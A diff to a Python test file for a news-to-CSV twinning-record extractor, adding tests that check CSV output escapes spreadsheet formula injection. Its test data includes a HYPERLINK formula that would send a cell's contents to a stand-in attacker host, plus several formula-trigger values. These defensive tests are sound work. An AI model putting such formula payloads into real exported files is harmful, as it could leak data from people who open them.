@@ -86,6 +86,28 @@ class BrokenFactory:
         raise OSError("no such model")
 
 
+@dataclass(frozen=True)
+class InjectionFactory:
+    """One record per document whose evidence is the whole text and whose parties are formulas."""
+
+    def __call__(self) -> "InjectionExtractor":
+        return InjectionExtractor()
+
+
+class InjectionExtractor:
+    def pipe(self, items: Iterable[NewsItem]) -> Iterator[tuple[NewsItem, list[TwinningRecord]]]:
+        for item in items:
+            text = item.text.strip()
+            parties = [Party(text=name, name=name, type="city", country=None, country_name=None,
+                             subdivision=None, geonames_id=geonames_id, start=0, end=len(name))
+                       for name, geonames_id in (("@SUM(A1:A9)", 703448), ("-2+3", None))]
+            yield item, [TwinningRecord(
+                id=record_id(item.id, [p.key for p in parties]), source=item.source(),
+                relation="twinning", status="established", parties=parties, date=None,
+                evidence=[Span(text, 0, len(text))], confidence=0.5, rules=["+rule"],
+            )]
+
+
 def make_corpus(root: Path, n: int = 40, seed: int = 7) -> Path:
     """Text files, a JSON Lines file and a gzip file, a few with twinning sentences."""
     rng = random.Random(seed)
@@ -171,6 +193,32 @@ def test_csv_output_one_row_per_record(corpus: Path, tmp_path: Path) -> None:
     assert first["status"] == "established" and first["confidence"] == "0.5"
     assert " twinned with " in first["evidence"]
     assert first["a_name"] + " twinned with " + first["b_name"] in first["evidence"]
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+@pytest.mark.parametrize(("column", "expected"), [
+    ("evidence", f"'{HYPERLINK} twinned"),
+    ("a_name", "'@SUM(A1:A9)"),
+    ("a_text", "'@SUM(A1:A9)"),
+    ("b_name", "'-2+3"),
+    ("rules", "'+rule"),
+    ("a_geonames_id", "703448"),
+    ("confidence", "0.5"),
+])
+def test_csv_cells_cannot_become_formulas(tmp_path: Path, column: str, expected: str) -> None:
+    (tmp_path / "in").mkdir()
+    (tmp_path / "in" / "evil.txt").write_text(f"{HYPERLINK} twinned\n", encoding="utf-8")
+    out = tmp_path / "records.csv"
+    assert run([tmp_path / "in"], out, factory=InjectionFactory(), fmt="csv", explain=True)[0] == 0
+    with open(out, newline="", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    assert len(rows) == 1 and rows[0][column] == expected
+
+
+def test_csv_guards_text_but_not_numbers() -> None:
+    assert batch.Renderer._csv([[-0.5, -3, "-0.5", "=1+1", "Lviv"]]) == b"-0.5,-3,'-0.5,'=1+1,Lviv\r\n"
 
 
 def test_stdout_output(corpus: Path, tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]) -> None:
